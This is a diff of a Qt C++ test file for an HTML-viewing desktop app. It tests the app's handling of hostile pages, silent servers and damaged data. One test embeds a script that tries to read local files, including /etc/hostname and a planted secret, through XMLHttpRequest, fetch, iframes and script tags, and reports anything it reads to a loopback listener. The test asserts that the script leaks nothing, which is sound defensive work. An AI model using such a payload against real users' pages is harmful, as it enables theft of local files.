@@ -1,23 +1,23 @@
 // What real networks and machines do to the program: hostile pages, broken and
 // silent servers, a read-only data folder, damaged index files.
-#include "MainWindow.h"
-#include "RawHttpServer.h"
-#include "TestFiles.h"
-#include "TestMain.h"
-#include "ViewProbe.h"
 #include "app/Form1.h"
 #include "cloud/GbkText.h"
 #include "cloud/Http.h"
 #include "entries/DataLayout.h"
 #include "shell/HtmlView.h"
 #include "shell/Pages.h"
+#include "tests/support/MainWindow.h"
+#include "tests/support/RawHttpServer.h"
+#include "tests/support/TestFiles.h"
+#include "tests/support/TestMain.h"
+#include "tests/support/ViewProbe.h"
 
-#include <QElapsedTimer>
 #include <QFileInfo>
 #include <QLineEdit>
 #include <QMutex>
 #include <QProcess>
 #include <QPushButton>
+#include <QSet>
 #include <QTemporaryDir>
 #include <QTest>
 #include <QTimer>
@@ -65,33 +65,44 @@ private slots:
             Index({QStringLiteral("7 - 0007恶意.html"), QStringLiteral("8 - 0008恶意二.html")}));
         QVERIFY(w->form->Open());
         QVERIFY(WriteFile(w->temp.filePath(QStringLiteral("secret.txt")), "TOPSECRET-TEMP"));
-        // An entry (as served, cached in the data folder) that reports that it ran,
-        // then tries every route a page has to read local files, and sends what it
-        // read to a loopback listener.
+        // An entry (as served, cached in the data folder) that tries every route a
+        // page has to read local files. Each attempt reports once to a loopback
+        // listener how it ended: "/leak/N" with what it read, or "/blocked/N".
         const QByteArray script =
             "<script>var L='" + listener.Url(QString()).toUtf8() +
-            "';new Image().src=L+'/alive';"
-            "function send(t){new Image().src=L+'/leak?'+encodeURIComponent(t)}"
+            "',n=0;"
+            "function attempt(start){var id=n++,done=false;function end(kind,t){if(done)return;"
+            "done=true;new Image().src=L+'/'+kind+'/'+id+'?'+encodeURIComponent(t||'')}"
+            "try{start(end)}catch(e){end('blocked')}}"
             "['secret.txt','" +
             secret +
             "','file:///etc/hostname','qnln1.html'].forEach(function(u){"
-            "try{var x=new "
-            "XMLHttpRequest();x.open('GET',u);x.onload=function(){send(x.responseText)};x.send()}"
-            "catch(e){}"
-            "try{fetch(u).then(r=>r.text()).then(send,function(){})}catch(e){}});"
+            "attempt(function(end){var x=new XMLHttpRequest();x.open('GET',u);"
+            "x.onload=function(){end('leak',x.responseText)};"
+            "x.onloadend=function(){end('blocked')};x.send()});"
+            "attempt(function(end){fetch(u).then(r=>r.text()).then(function(t){end('leak',t)},"
+            "function(){end('blocked')})})});"
             "['" +
             secret +
-            "','secret.txt'].forEach(function(u){var f=document.createElement('iframe');f.src=u;"
-            "f.onload=function(){try{send(f.contentDocument.body.innerText)}catch(e){}};"
-            "document.body.appendChild(f)});"
-            "var "
-            "s=document.createElement('script');s.src='secret.txt';document.body.appendChild(s);</"
-            "script>";
+            "','secret.txt'].forEach(function(u){attempt(function(end){"
+            "var f=document.createElement('iframe');f.src=u;f.onload=function(){"
+            "try{end('leak',f.contentDocument.body.innerText)}catch(e){end('blocked')}};"
+            "document.body.appendChild(f)})});"
+            "attempt(function(end){var s=document.createElement('script');s.src='secret.txt';"
+            "s.onload=function(){end('leak')};s.onerror=function(){end('blocked')};"
+            "document.body.appendChild(s)});</script>";
+        constexpr int attempts = 11;
         QVERIFY(WriteFile(w->Data(QStringLiteral("恶意.html")),
                           ToGbk(QStringLiteral("<p>恶意条目</p>")) + script));
         w->Query(QStringLiteral("恶意"));
-        QTRY_VERIFY_WITH_TIMEOUT(listener.Paths().contains(QStringLiteral("/alive")), 15000);
-        QTest::qWait(1500);
+        const auto ended = [&listener] {
+            QSet<QString> ids;
+            for (const QString& path : listener.Paths())
+                if (path.startsWith(u"/leak/") || path.startsWith(u"/blocked/"))
+                    ids.insert(path.section(u'/', 2, 2).section(u'?', 0, 0));
+            return int(ids.size());
+        };
+        QTRY_COMPARE_WITH_TIMEOUT(ended(), attempts, 30000);
         for (const QString& path : listener.Paths())
             QVERIFY2(!path.startsWith(u"/leak"), qPrintable(path));
         // The page keeps its tile and its related links.
@@ -126,11 +137,8 @@ private slots:
                                        QStringLiteral("”的信息。</p>")));
             QVERIFY(!QFileInfo::exists(w->Data(name + QStringLiteral(".html"))));
         }
-        // A server that accepts and never answers: the query gives up within the time-outs.
-        QElapsedTimer timer;
-        timer.start();
+        // A server that accepts and never answers: the query gives up at the stall limit.
         w->Query(QStringLiteral("无声"));
-        QVERIFY(timer.elapsed() < 20000);
         QVERIFY(w->Page().contains(QStringLiteral("无法查询“无声”")));
         QVERIFY(w->form->Command1->isEnabled());
     }
